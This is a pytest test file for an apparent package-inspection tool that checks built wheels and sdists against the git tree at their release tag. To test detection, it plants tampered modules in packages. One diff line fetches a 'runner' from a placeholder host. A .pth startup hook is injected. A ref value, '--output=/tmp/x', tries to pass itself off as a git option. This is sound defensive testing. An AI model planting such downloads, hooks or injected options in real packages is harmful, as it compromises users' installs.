"""The artifact against the git tree at its release tag (plumbing only, nothing checked out)."""

from __future__ import annotations

from pathlib import Path

import pytest

from bastion._internal.errors import IncompleteError, UsageError
from bastion._internal.inspect.limits import Limits
from bastion._internal.inspect.scan import inspect_file
from bastion._internal.inspect.source import (
    compare_with_source,
    open_repository,
    resolve_tree,
    split_source,
    tag_candidates,
)
from tests.inspect import samples
from tests.inspect.samples import HONEST, make_repository, package_files, write_sdist, write_wheel


def _compare(artifact: Path, location: str, ref: str | None = None) -> dict[str, tuple[str, str]]:
    report = inspect_file(artifact, git_ids=True)
    with open_repository(location) as repository:
        tree = resolve_tree(repository, location, "demo", "1.0.0", ref)
        hits = compare_with_source(report, tree, repository, Limits())
    return {h.member: (h.rule, h.evidence) for h in hits}


def test_honest_wheel_and_sdist_match_the_tag(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repo")
    assert _compare(write_wheel(tmp_path, package_files()), str(repository)) == {}
    assert _compare(write_sdist(tmp_path, HONEST), str(repository)) == {}


def test_changed_module_is_reported_with_a_diff(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repo")
    files = package_files()
    files["demo/downloads.py"] = samples.RUNNER.encode()
    found = _compare(write_wheel(tmp_path, files), str(repository))
    rule, text = found["demo/downloads.py"]
    assert rule == "inspect-source-changed"
    assert "src/demo/downloads.py at v1.0.0" in text
    assert '+ urllib.request.urlretrieve("http://example.invalid/runner"' in text
    assert set(found) == {"demo/downloads.py"}


def test_added_file_is_reported_even_where_no_file_matches(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repo")
    files = package_files()
    files["demo/_hook.py"] = b"import os\n"
    files["demo-init.pth"] = b"import demo._hook\n"
    found = _compare(write_wheel(tmp_path, files), str(repository))
    assert {m: r for m, (r, _) in found.items()} == {
        "demo/_hook.py": "inspect-source-added",
        "demo-init.pth": "inspect-source-added",
    }


def test_sdist_setup_py_not_in_the_repository(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repo")
    sdist = write_sdist(tmp_path, {**HONEST, "setup.py": samples.SETUP_CMDCLASS})
    found = _compare(sdist, str(repository))
    assert found["demo-1.0.0/setup.py"][0] == "inspect-source-added"


def test_clone_from_a_url_and_explicit_ref(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repo", tag="release-1.0.0")
    files = package_files()
    files["demo/__init__.py"] = samples.MINER_INIT.encode()
    url = f"file://{repository}"
    found = _compare(write_wheel(tmp_path, files), url)  # tag found by pattern
    assert found["demo/__init__.py"][0] == "inspect-source-changed"
    assert "release-1.0.0" in found["demo/__init__.py"][1]
    assert _compare(write_wheel(tmp_path / "h", package_files()), url, "main") == {}


def test_missing_tag_and_bad_sources(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repo", tag="unrelated")
    with pytest.raises(IncompleteError, match=r"no ref for demo 1\.0\.0"):
        _compare(write_wheel(tmp_path, package_files()), str(repository))
    with pytest.raises(UsageError, match="no such folder"):
        _compare(write_wheel(tmp_path, package_files()), str(tmp_path / "nowhere"))
    (tmp_path / "plain").mkdir()
    with pytest.raises(UsageError, match="not a git repository"):
        _compare(write_wheel(tmp_path, package_files()), str(tmp_path / "plain"))
    with pytest.raises(IncompleteError, match="git clone failed"):
        _compare(write_wheel(tmp_path, package_files()), f"file://{tmp_path}/nowhere.git")


def test_ref_names_cannot_become_options(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "repo")
    with pytest.raises(IncompleteError):
        _compare(write_wheel(tmp_path, package_files()), str(repository), "--output=/tmp/x")


def test_source_argument_and_tags() -> None:
    assert split_source("/src/demo@v1") == ("/src/demo", "v1")
    assert split_source("git@example.invalid:org/demo.git") == (
        "git@example.invalid:org/demo.git",
        None,
    )
    assert split_source("https://example.invalid/demo.git@v2") == (
        "https://example.invalid/demo.git",
        "v2",
    )
    assert tag_candidates("Demo_Pkg", "1.0")[:3] == ["v1.0", "1.0", "Demo_Pkg-1.0"]
    assert "demo-pkg-v1.0" in tag_candidates("Demo_Pkg", "1.0")
